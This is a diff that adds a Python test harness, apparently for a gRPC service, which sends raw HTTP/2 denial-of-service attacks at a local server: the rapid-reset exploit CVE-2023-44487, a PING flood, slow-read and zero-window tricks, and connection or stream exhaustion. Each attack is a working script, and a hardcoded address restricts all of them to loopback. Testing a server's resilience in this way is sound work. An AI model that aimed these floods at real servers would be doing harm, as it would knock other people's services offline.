@@ -1,0 +1,231 @@
+"""What a caller without credentials can do to a server, in raw HTTP/2 frames.
+
+Each attack runs in a process of its own, so that it does not slow the caller that is measured. Only for servers on this machine: it
+connects to loopback and nowhere else.
+
+    outsiders.py PORT ATTACK SECONDS
+"""
+
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable
+
+LOOPBACK = "127.0.0.1"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+FIRST_WINDOW = 65_535
+END_HEADERS = 4
+MAX_FRAME = 16_384
+UNARY, BULK, WATCH = "/heapsync.v1.HeapSyncService/TrackEvent", "/heapsync.v1.HeapSyncService/BulkTrackEvents", "/grpc.health.v1.Health/Watch"
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name: str, value: str) -> bytes:
+    """A header in HPACK's plainest form: not indexed, not Huffman-coded."""
+    parts = [text.encode() for text in (name, value)]
+    return b"\x00" + b"".join(bytes([len(part)]) + part for part in parts)
+
+
+def request(path: str) -> bytes:
+    return b"".join(
+        literal(*header)
+        for header in ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", LOOPBACK), ("te", "trailers"),
+                       ("content-type", "application/grpc")))
+
+
+def settings(**window: int) -> bytes:
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", 4, size) for size in window.values()))
+
+
+class Attacker:
+    """One connection. It reads nothing unless asked to."""
+
+    def __init__(self, port: int, window: int | None = None) -> None:
+        self.socket = socket.create_connection((LOOPBACK, port), timeout=30)
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.stream = -1
+        self.open = True
+        self.received = bytearray()
+        self.first_window = FIRST_WINDOW
+        self.windows = {0: FIRST_WINDOW}
+        self.send(PREFACE + (settings() if window is None else settings(window=window)))
+
+    def send(self, data: bytes) -> None:
+        if not self.open:
+            return
+        try:
+            self.socket.sendall(data)
+        except OSError:
+            self.close()
+
+    def drain(self) -> None:
+        """Takes in what has arrived, of which only the windows matter; notices an end."""
+        if not self.open:
+            return
+        self.socket.setblocking(False)
+        try:
+            while self.open:
+                data = self.socket.recv(1 << 16)
+                if not data:
+                    self.close()
+                self.received += data
+        except BlockingIOError:
+            self.socket.settimeout(30)
+        except OSError:
+            self.close()
+        while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3], "big")):
+            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
+            payload = bytes(self.received[9:9 + length])
+            del self.received[:9 + length]
+            if kind == WINDOW_UPDATE:
+                self.windows[stream] = self.windows.get(stream, self.first_window) + int.from_bytes(payload, "big")
+            elif kind == SETTINGS and not flags:
+                for start in range(0, length, 6):
+                    name, value = struct.unpack(">HI", payload[start:start + 6])
+                    if name == 4:
+                        self.first_window = value
+                self.send(frame(SETTINGS, 1, 0, b""))
+
+    def fill(self, stream: int) -> int:
+        """Sends as much on a call as its window and the connection's allow, but one frame at most."""
+        window = min(self.windows.get(stream, self.first_window), self.windows[0], MAX_FRAME)
+        if window <= 0:
+            return 0
+        self.windows[stream] = self.windows.get(stream, self.first_window) - window
+        self.windows[0] -= window
+        self.send(frame(DATA, 0, stream, bytes(window)))
+        return window
+
+    def close(self) -> None:
+        self.open = False
+        self.socket.close()
+
+    def streams(self, path: str, count: int, after: Callable[[int], bytes] = lambda stream: b"") -> None:
+        """Opens `count` calls, each followed by what `after` gives."""
+        head = request(path)
+        frames = []
+        for _ in range(count):
+            self.stream += 2
+            frames.append(frame(HEADERS, END_HEADERS, self.stream, head) + after(self.stream))
+        self.send(b"".join(frames))
+
+
+Attack = Callable[[int, float], dict[str, int]]
+
+
+def rapid_reset(port: int, seconds: float, path: str = BULK) -> dict[str, int]:
+    """CVE-2023-44487: calls are opened and reset; a new connection when the server closes one."""
+    deadline, connections, streams = time.monotonic() + seconds, 0, 0
+    while time.monotonic() < deadline:
+        attacker = Attacker(port)
+        connections += 1
+        while attacker.open and time.monotonic() < deadline and attacker.stream < 1_000_000:
+            attacker.streams(path, 500, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
+            streams += 500
+            attacker.drain()
+        attacker.close()
+    return {"connections": connections, "streams": streams}
+
+
+def hold(port: int, seconds: float, count: int, begin: Callable[[Attacker], None], window: int | None = None) -> dict[str, int]:
+    """`count` connections that stay as long as they may."""
+    deadline = time.monotonic() + seconds
+    attackers = []
+    for _ in range(count):
+        try:
+            attackers.append(Attacker(port, window))
+        except OSError:
+            break
+        begin(attackers[-1])
+        if time.monotonic() > deadline:
+            break
+    opened = len(attackers)
+    while time.monotonic() < deadline:
+        time.sleep(0.1)
+    for attacker in attackers:
+        attacker.drain()
+    kept = sum(attacker.open for attacker in attackers)
+    for attacker in attackers:
+        attacker.close()
+    return {"connections": opened, "kept": kept}
+
+
+def silent(port: int, seconds: float) -> dict[str, int]:
+    """Connections that greet and say nothing more."""
+    return hold(port, seconds, 4_000, lambda attacker: None)
+
+
+def open_streams(port: int, seconds: float) -> dict[str, int]:
+    """1,000 calls opened on each connection, and left."""
+    paths = [UNARY, BULK, WATCH]
+    return hold(port, seconds, 400, lambda attacker: attacker.streams(paths[attacker.socket.fileno() % 3], 1_000))
+
+
+def unread(port: int, seconds: float) -> dict[str, int]:
+    """Calls whose answers, refusals, are never read: the window is 0."""
+    return hold(port, seconds, 200, lambda attacker: attacker.streams(BULK, 1_000), window=0)
+
+
+def withheld(port: int, seconds: float, connections: int = 40, calls: int = 100, path: str = UNARY) -> dict[str, int]:
+    """Messages of 4 MiB less one byte, on each call of each connection; flow control is obeyed."""
+    deadline = time.monotonic() + seconds
+    size = 4 << 20
+    attackers: list[Attacker] = []
+    left: dict[Attacker, dict[int, int]] = {}
+    opened = sent = 0
+    while time.monotonic() < deadline:
+        attackers = [attacker for attacker in attackers if attacker.open]
+        while len(attackers) < connections:
+            attacker = Attacker(port)
+            attacker.streams(path, calls, lambda stream: frame(DATA, 0, stream, struct.pack(">BI", 0, size)))
+            attacker.windows[0] -= 5 * calls
+            left[attacker] = {stream: size - 1 - MAX_FRAME for stream in range(1, 2 * calls, 2)}
+            attackers.append(attacker)
+            opened += 1
+        progress = 0
+        for attacker in attackers:
+            attacker.drain()
+            for stream, rest in left[attacker].items():
+                if rest > 0 and attacker.open:
+                    filled = attacker.fill(stream)
+                    left[attacker][stream] -= filled
+                    progress += filled
+        sent += progress
+        if progress == 0:
+            time.sleep(0.01)
+    return {"connections": opened, "MiB": sent >> 20}
+
+
+def pings(port: int, seconds: float) -> dict[str, int]:
+    """A flood of PINGs; a new connection when the server closes one."""
+    deadline, connections = time.monotonic() + seconds, 0
+    ping = frame(PING, 0, 0, bytes(8)) * 1_000
+    while time.monotonic() < deadline:
+        attacker = Attacker(port)
+        connections += 1
+        while attacker.open and time.monotonic() < deadline:
+            attacker.send(ping)
+            attacker.drain()
+        attacker.close()
+    return {"connections": connections}
+
+
+ATTACKS: dict[str, Attack] = {
+    "rapid_reset": rapid_reset,
+    "rapid_reset_unary": lambda port, seconds: rapid_reset(port, seconds, UNARY),
+    "rapid_reset_health": lambda port, seconds: rapid_reset(port, seconds, WATCH),
+    "silent": silent,
+    "few_silent": lambda port, seconds: hold(port, seconds, 20, lambda attacker: None),
+    "open_streams": open_streams,
+    "unread": unread,
+    "withheld": withheld,
+    "pings": pings,
+}
+
+if __name__ == "__main__":
+    print(ATTACKS[sys.argv[2]](int(sys.argv[1]), float(sys.argv[3])))
